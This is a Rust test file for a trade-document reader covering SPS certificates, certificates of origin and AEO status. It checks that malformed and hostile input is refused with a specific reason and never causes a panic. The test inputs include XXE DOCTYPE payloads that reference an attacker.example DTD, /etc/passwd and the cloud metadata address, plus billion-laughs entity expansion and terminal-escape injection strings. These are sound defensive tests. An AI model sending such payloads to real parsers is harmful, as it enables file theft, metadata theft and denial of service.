//! Hostile and broken input: nothing panics, nothing is fetched, every refusal has its own reason, and each takes
//! less than a second.

use proptest::prelude::*;

use super::*;

const XML: &str = include_str!("../kinds/sps_certificate/examples/nz-cn-sps.xml");
const ORIGIN: &str = include_str!("../kinds/certificate_of_origin/examples/cl-cn-origin.json");
const AEO: &str = include_str!("../kinds/aeo_status/examples/nz-aeo.json");

const ROOT: &str = "<rsm:SPSCertificate xmlns:rsm=\"urn:un:unece:uncefact:data:standard:SPSCertificate:17\">";

/// A JSON document without the member at this pointer, which must be there.
pub(crate) fn without(document: &str, pointer: &str) -> String {
    let mut json: serde_json::Value = serde_json::from_str(document).unwrap();
    let (parent, member) = pointer.rsplit_once('/').unwrap();
    let removed = json.pointer_mut(parent).and_then(|parent| parent.as_object_mut()).and_then(|parent| parent.remove(member));
    assert!(removed.is_some(), "the document has no {pointer}");
    json.to_string()
}

/// All pointers to members of objects of a JSON document.
pub(crate) fn members(document: &str) -> Vec<String> {
    fn collect(json: &serde_json::Value, at: &str, found: &mut Vec<String>) {
        let children: Vec<(String, &serde_json::Value)> = match json {
            serde_json::Value::Object(object) => object.iter().map(|(name, value)| (name.clone(), value)).collect(),
            serde_json::Value::Array(list) => list.iter().enumerate().map(|(index, value)| (index.to_string(), value)).collect(),
            _ => Vec::new(),
        };
        for (name, child) in children {
            let pointer = format!("{at}/{name}");
            if json.is_object() {
                found.push(pointer.clone());
            }
            collect(child, &pointer, found);
        }
    }
    let mut found = Vec::new();
    collect(&serde_json::from_str(document).unwrap(), "", &mut found);
    found
}

/// Takes each member out of the document in turn: those listed may be left out, all others are missed by name.
pub(crate) fn check_optional_members(document: &str, optional: &[&str]) {
    assert!(read_document(document.as_bytes()).is_ok());
    for pointer in members(document) {
        let outcome = read_document(without(document, &pointer).as_bytes());
        if optional.contains(&pointer.as_str()) {
            assert!(outcome.is_ok(), "{pointer} may be left out: {outcome:?}");
        } else {
            let error = outcome.expect_err(&pointer);
            let wanted = if pointer == "/type" { Reason::UnknownKind } else { Reason::Missing };
            assert_eq!((error.reason, error.place.path.as_str()), (wanted, pointer.rsplit_once('/').unwrap().0), "{error}");
        }
    }
    for pointer in optional {
        assert!(members(document).iter().any(|member| member == pointer), "the document has no {pointer}");
    }
}

/// Reads a hostile document, which must be refused for this reason.
fn refused(bytes: impl AsRef<[u8]>, reason: Reason) -> ReadError {
    let error = read_document(bytes.as_ref()).expect_err("a hostile document was read");
    assert_eq!(error.reason, reason, "{error}");
    let shown = error.to_string();
    assert!(shown.len() < 1000, "a message of {} bytes", shown.len());
    assert_eq!(escape_for_terminal(&shown.replace('\\', "")), shown.replace('\\', ""), "a message that could fool a terminal");
    error
}

/// The example with a piece behind its XML declaration.
fn with_prolog(prolog: &str) -> String {
    XML.replacen("?>", &format!("?>{prolog}"), 1)
}

fn edited(document: &str, old: &str, new: &str) -> String {
    assert!(document.contains(old), "the example has no {old}");
    document.replacen(old, new, 1)
}

#[test]
fn a_doctype_is_refused_whatever_it_holds() {
    for doctype in [
        "<!DOCTYPE SPSCertificate>",
        "<!DOCTYPE SPSCertificate SYSTEM \"http://attacker.example/sps.dtd\">",
        "<!DOCTYPE SPSCertificate PUBLIC \"-//X//Y\" \"file:///etc/passwd\">",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\"> %p;]>",
        "<!doctype r>",
    ] {
        let text = with_prolog(doctype);
        let error = refused(edited(&text, "Fresh apples", "&x;"), Reason::Doctype);
        assert_eq!(error.place.line, Some(1));
    }
}

#[test]
fn entities_cannot_multiply() {
    let mut laughs = String::from("<!DOCTYPE r [<!ENTITY a0 \"ha\">");
    for level in 1..30 {
        laughs.push_str(&format!("<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10)));
    }
    laughs.push_str("]>");
    refused(edited(&with_prolog(&laughs), "Fresh apples", "&a29;"), Reason::Doctype);
    let quadratic = format!("<!DOCTYPE r [<!ENTITY a \"{}\">]>", "a".repeat(100_000));
    refused(edited(&with_prolog(&quadratic), "Fresh apples", &"&a;".repeat(1000)), Reason::Doctype);
    // Without a DOCTYPE there is nothing that an entity could be.
    let error = refused(edited(XML, "Fresh apples", "&a29;"), Reason::Entity);
    assert!(error.place.path.ends_with("IncludedSPSTradeLineItem/Description"), "{error}");
    refused(edited(XML, "languageID=\"en\"", "languageID=\"&eacute;\""), Reason::Entity);
}

#[test]
fn deep_nesting_is_refused_at_64() {
    let nested = |depth: usize| format!("{ROOT}{}", "<rsm:a>".repeat(depth));
    for (text, reason) in [
        (nested(100_000), Reason::TooDeep),
        (nested(64), Reason::TooDeep),
        // 64 deep is read as far as its missing end tags.
        (nested(63), Reason::NotWellFormed),
        (format!("{}{}", "<a/>".repeat(2), "<a>".repeat(100_000)), Reason::NotWellFormed),
        (format!("{{\"type\":{}", "[".repeat(100_000)), Reason::TooDeep),
        (format!("{{\"type\":{}", "{\"a\":".repeat(100_000)), Reason::TooDeep),
        (format!("{{\"type\":{}{}}}", "[".repeat(63), "]".repeat(63)), Reason::UnknownKind),
        (format!("{{\"type\":{}{}}}", "[".repeat(64), "]".repeat(64)), Reason::TooDeep),
    ] {
        refused(text, reason);
    }
}

#[test]
fn more_than_the_limits_is_refused() {
    let attributes = |count: usize| format!("<a {}/>", (0..count).map(|index| format!("a{index}='' ")).collect::<String>());
    let namespaces = |count: usize| (0..count).map(|index| format!(" xmlns:n{index}='urn:{index}'")).collect::<String>();
    let opened = |depth: usize| (0..depth).map(|_| format!("<a{}>", namespaces(60))).collect::<String>();
    let text = |bytes: usize| edited(XML, "Fresh apples", &"x".repeat(bytes));
    for (document, reason) in [
        (" ".repeat(DOCUMENT_BYTES_MAX + 1), Reason::TooLarge),
        (" ".repeat(DOCUMENT_BYTES_MAX), Reason::NotWellFormed),
        (attributes(64), Reason::UnknownKind),
        (attributes(65), Reason::TooLarge),
        (attributes(400_000), Reason::TooLarge),
        (format!("<a {}/>", namespaces(300_000)), Reason::TooLarge),
        (opened(4), Reason::NotWellFormed),
        (opened(5), Reason::TooLarge),
        (format!("<a b='{}'/>", "x".repeat(4096)), Reason::UnknownKind),
        (format!("<a b='{}'/>", "x".repeat(4097)), Reason::TooLarge),
        (format!("<a b='{}'/>", "x".repeat(5_000_000)), Reason::TooLarge),
        (text((1 << 20) + 1), Reason::TooLarge),
        (format!("<a>{}</a>", "<b/>".repeat(32_767)), Reason::UnknownKind),
        (format!("<a>{}</a>", "<b/>".repeat(32_768)), Reason::TooLarge),
        (format!("<a>{}</a>", "<b/>".repeat(1_200_000)), Reason::TooLarge),
        (format!("{{\"a\":[{}1]}}", "1,".repeat(16_381)), Reason::UnknownKind),
        (format!("{{\"a\":[{}1]}}", "1,".repeat(16_382)), Reason::TooLarge),
        (format!("{{{}\"z\":1}}", (0..63).map(|index| format!("\"m{index}\":1,")).collect::<String>()), Reason::UnknownKind),
        (format!("{{{}\"z\":1}}", (0..64).map(|index| format!("\"m{index}\":1,")).collect::<String>()), Reason::TooLarge),
        (edited(ORIGIN, "Virgin olive oil, extra virgin", &"x".repeat(4097)), Reason::TooLarge),
    ] {
        refused(document, reason);
    }
    assert!(read_document(text(1 << 20).as_bytes()).is_ok());
    assert!(read_document(edited(ORIGIN, "Virgin olive oil, extra virgin", &"x".repeat(4096)).as_bytes()).is_ok());
}

#[test]
fn only_utf_8_is_read() {
    let utf_16: Vec<u8> = [0xff, 0xfe].into_iter().chain(XML.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let utf_16_without_mark: Vec<u8> = "<?xml version='1.0'?><a/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let latin_1 = XML.replace('ō', "o").replace("UTF-8", "ISO-8859-1").replace("Kowhai", "K\u{1}whai").into_bytes();
    let latin_1: Vec<u8> = latin_1.into_iter().map(|byte| if byte == 1 { 0xf3 } else { byte }).collect();
    for (bytes, reason) in [
        (utf_16, Reason::Encoding),
        (utf_16_without_mark, Reason::NotWellFormed),
        (latin_1, Reason::Encoding),
        (XML.replace("UTF-8", "ISO-8859-1").into_bytes(), Reason::Encoding),
        (XML.replace("UTF-8", "UTF-7").into_bytes(), Reason::Encoding),
        (vec![b'<', b'a', b'>', 0xc0, 0xaf], Reason::Encoding),
        (vec![b'<', b'a', b'>', 0xed, 0xa0, 0x80], Reason::Encoding),
        (vec![0; 100], Reason::NotWellFormed),
        (Vec::new(), Reason::NotWellFormed),
        (b"{\"type\":\"\\ud800\"}".to_vec(), Reason::NotWellFormed),
    ] {
        refused(bytes, reason);
    }
    let plain = read_document(XML.as_bytes()).unwrap();
    assert_eq!(read_document(format!("\u{feff}{XML}").as_bytes()).unwrap(), plain);
    for declaration in
        ["", "<?xml version='1.0'?>", "<?xml version = '1.0'  encoding=\"utf-8\" ?>", "<?xml version=\"1.0\" standalone=\"yes\"?>"]
    {
        assert_eq!(read_document(XML.replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", declaration).as_bytes()).unwrap(), plain);
    }
}

#[test]
fn what_people_take_for_the_document_is_named() {
    for (begins, named) in [
        (&b"%PDF-1.7\n%\xe2\xe3"[..], "a PDF"),
        (b"\x89PNG\r\n", "a picture"),
        (b"\xff\xd8\xff\xe0", "a picture"),
        (b"PK\x03\x04\x14", "a ZIP archive"),
        (b"\xd0\xcf\x11\xe0\xa1", "an office document"),
    ] {
        let error = read_document(begins).unwrap_err().to_string();
        assert!(error.contains(named) && !error.contains("UTF-8"), "{error}");
    }
}

#[test]
fn a_day_that_is_none_is_not_told_to_be_written_as_it_is() {
    let said = |day: &str| read_document(edited(ORIGIN, "2026-03-09", day).as_bytes()).unwrap_err().to_string();
    assert!(said("2026-02-31").ends_with("'2026-02-31' is not a day of the calendar from 1970 on; correct the day"));
    assert!(said("9.3.2026").contains("write it as 2026-03-09"));
}

#[test]
fn broken_xml_is_refused() {
    for text in [
        "<".to_owned(),
        "<a".to_owned(),
        "<a></b>".to_owned(),
        "<a/><b/>".to_owned(),
        "<a/>text".to_owned(),
        "<a/>&amp;".to_owned(),
        "<!-- -- --><a/>".to_owned(),
        "<a b='1' b='2'/>".to_owned(),
        "<a xmlns:p='urn:x' xmlns:q='urn:x' p:b='1' q:b='2'/>".to_owned(),
        "<a b=1/>".to_owned(),
        "<a b/>".to_owned(),
        "<a b='<'/>".to_owned(),
        "<a b='&'/>".to_owned(),
        "<a:b:c/>".to_owned(),
        "<:a/>".to_owned(),
        "<1a/>".to_owned(),
        "<a xmlns:xml='urn:x'/>".to_owned(),
        "<a xmlns:xmlns='urn:x'/>".to_owned(),
        "<a xmlns:p=''/>".to_owned(),
        "<a>]]></a>".to_owned(),
        "<a>&#0;</a>".to_owned(),
        "<a>&#xFFFE;</a>".to_owned(),
        "<a>&#+65;</a>".to_owned(),
        "<a>&#x110000;</a>".to_owned(),
        "<a>\u{1}</a>".to_owned(),
        "<a>\u{ffff}</a>".to_owned(),
        "<a><?xml version='1.0'?></a>".to_owned(),
        " <?xml version='1.0'?><a/>".to_owned(),
        "<?xml version='1.1'?><a/>".to_owned(),
        "<?xml encoding='UTF-8'?><a/>".to_owned(),
        "<?xml version='1.0'encoding='UTF-8'?><a/>".to_owned(),
        "<?xml version='1.0' standalone='maybe'?><a/>".to_owned(),
        "<?xml version='1.0' colour='red'?><a/>".to_owned(),
        "<?x|l y?><a/>".to_owned(),
        "<![CDATA[x]]><a/>".to_owned(),
        "<?xml version='1.0'?>".to_owned(),
        format!("{XML}{XML}"),
    ] {
        assert_eq!(read_document(text.as_bytes()).expect_err(&text).reason, Reason::NotWellFormed, "{text}");
    }
    refused("<p:a/>", Reason::UnboundPrefix);
    refused("<a p:b=''/>", Reason::UnboundPrefix);
    refused("<a><b xmlns:p='urn:x'/><p:c/></a>", Reason::UnboundPrefix);
}

#[test]
fn messages_do_not_carry_escape_sequences() {
    refused(edited(XML, "<ram:TypeCode>851", "<ram:TypeCode>\u{202e}851"), Reason::Value);
    refused("<a\u{202e}/>", Reason::NotWellFormed);
    refused(format!("<a xmlns='\u{9b}31m{}'/>", "x".repeat(4000)), Reason::UnknownKind);
    refused(edited(ORIGIN, "\"type\"", "\"\\u001b[2J\": 1, \"type\""), Reason::Unexpected);
    refused("{\"type\": \"\\u001b]0;owned\\u0007\"}", Reason::UnknownKind);
    refused(edited(AEO, "\"valid\"", "\"\\u202edilav\""), Reason::Value);
}

#[test]
fn a_document_cut_short_anywhere_is_refused() {
    for document in [XML, ORIGIN, AEO] {
        let whole = document.trim_end();
        for end in 0..whole.len() {
            assert!(read_document(&whole.as_bytes()[..end]).is_err(), "cut at {end}");
        }
        assert!(read_document(whole.as_bytes()).is_ok());
    }
}

#[test]
fn a_flipped_bit_anywhere_never_panics_and_never_says_the_same() {
    for document in [XML, ORIGIN, AEO] {
        let whole = read_document(document.as_bytes()).unwrap();
        let mut silent = Vec::new();
        for index in 0..document.len() {
            let mut bytes = document.as_bytes().to_vec();
            bytes[index] ^= 1 << (index % 8);
            if read_document(&bytes).is_ok_and(|read| changed_fields(&whole, &read).is_empty()) {
                silent.push(String::from_utf8_lossy(&bytes[..(index + 5).min(bytes.len())]).into_owned());
            }
        }
        // With another name the XML declaration is a processing instruction, which says nothing in either case.
        let expected: &[&str] = if document == XML { &["<?xel ve"] } else { &[] };
        assert_eq!(silent, expected);
    }
}

#[test]
fn what_a_field_shows_is_bounded_and_escaped() {
    let field = |value: &str| Field { path: "x".into(), value: value.into() };
    assert_eq!(field("a\u{202e}b").shown(), "a\\u{202e}b");
    assert_eq!(field(&"x".repeat(4096)).shown(), "x".repeat(4096));
    let shown = field(&"é".repeat(2049)).shown().into_owned();
    assert_eq!(shown, format!("{}… (4098 bytes)", "é".repeat(2048)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(if cfg!(debug_assertions) { 512 } else { 4096 }))]

    #[test]
    fn random_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let _ = read_document(&bytes);
    }

    #[test]
    fn random_xml_like_text_never_panics(text in "(<[a-z:]{0,4}( [a-z:]{1,5}=['\"][^<]{0,4}['\"])?/?>|</[a-z]{0,3}>|&[a-z#0-9]{0,4};|[<>&'\"!\\[\\]?-]|<!--|-->|<!\\[CDATA\\[|\\]\\]>|\\PC){0,40}") {
        let _ = read_document(format!("{ROOT}{text}").as_bytes());
    }

    #[test]
    fn random_json_like_text_never_panics(text in "([\\[\\]{},:\"]|\"[a-z]{0,4}\"|-?[0-9]{1,20}(\\.[0-9])?|true|null|\\\\u[0-9a-f]{4}|\\PC){0,60}") {
        let _ = read_document(format!("{{\"type\":{text}").as_bytes());
    }

    #[test]
    fn a_replaced_piece_never_panics(start in 0..XML.len(), size in 0..40_usize, piece in "\\PC{0,20}") {
        let mut bytes = XML.as_bytes().to_vec();
        let end = (start + size).min(bytes.len());
        bytes.splice(start..end, piece.bytes());
        let _ = read_document(&bytes);
    }

    #[test]
    fn escaped_text_is_safe_and_stays_so(text in "\\PC{0,40}|(?s).{0,40}") {
        let escaped = escape_for_terminal(&text).into_owned();
        let is_hostile = escaped.chars().any(|character| character.is_control() || ('\u{202a}'..='\u{202e}').contains(&character));
        prop_assert!(!is_hostile);
        prop_assert_eq!(escape_for_terminal(&escaped.replace('\\', "")).into_owned(), escaped.replace('\\', ""));
    }
}

#[test]
fn all_faults_that_do_not_follow_from_one_another_are_named() {
    let text = edited(&edited(ORIGIN, "\"LTR\"", "\"litres\""), "\"code\": \"220421\"", "\"code\": \"2204.21\"");
    let error = refused(edited(&text, "\"number\": \"CL-2026-0018834\",", ""), Reason::Value);
    let faults = error.faults();
    let begin: Vec<&str> = faults.iter().map(|fault| fault.split(": ").next().unwrap()).collect();
    assert_eq!(begin, ["items[1].hs.code", "items[1].quantity.unit", "the whole document"], "{faults:?}");
    assert!(faults[2].contains("the member 'number' is missing"), "{faults:?}");
    // Of XML as well; what stands at a wrong place ends its own parent only.
    let error = refused(edited(XML, ">851<", "><").replace(">NZ<", ">New Zealand<"), Reason::Empty);
    let others = &error.others.as_ref().unwrap().named;
    assert!(others.iter().all(|other| other.place.line > error.place.line), "{error}");
    assert!(error.to_string().contains(" | "), "{error}");
}

#[test]
fn an_empty_file_is_said_to_be_empty() {
    for (bytes, cause) in [(&b""[..], "the file is empty"), (b" \n\t", "the file holds white space alone")] {
        assert_eq!(refused(bytes, Reason::NotWellFormed).cause, cause);
    }
}

#[test]
fn what_is_wrong_with_one_value_or_contradicts_another_hides_nothing() {
    let text = edited(ORIGIN, "\"LTR\"", "\"litres\"");
    let text = edited(&text, "\"CL-CN\"", "null");
    let text = edited(&text, "\"value\": \"10800.00\"", "\"value\": \"0\"");
    let text = edited(&text, "\"number\": \"CL-2026-0018834\",", "\"number\": \"CL-2026-0018834\", \"number\": \"CL-2\",");
    let text =
        edited(&text, "\"third_party_invoice\": false, \"back_to_back\": false", "\"third_party_invoice\": true, \"back_to_back\": true");
    let faults = refused(&text, Reason::Repeated).faults();
    for part in [
        "number: the member 'number' stands twice; keep one of them",
        "agreement: the value is null; leave the member out",
        "items[1].quantity.value: '0' is not an amount above zero",
        "items[1].quantity.unit: 'litres'",
        "third_party is missing although flags.third_party_invoice is set",
        "base is missing although flags.back_to_back is set",
    ] {
        assert!(faults.iter().any(|fault| fault.contains(part)), "{part}: {faults:#?}");
    }
    // Nothing follows from a member that is wrong itself.
    let text = edited(ORIGIN, "\"back_to_back\": false", "\"back_to_back\": \"yes\"");
    let faults = refused(&text, Reason::Value).faults();
    assert_eq!(faults.len(), 1, "{faults:#?}");
}
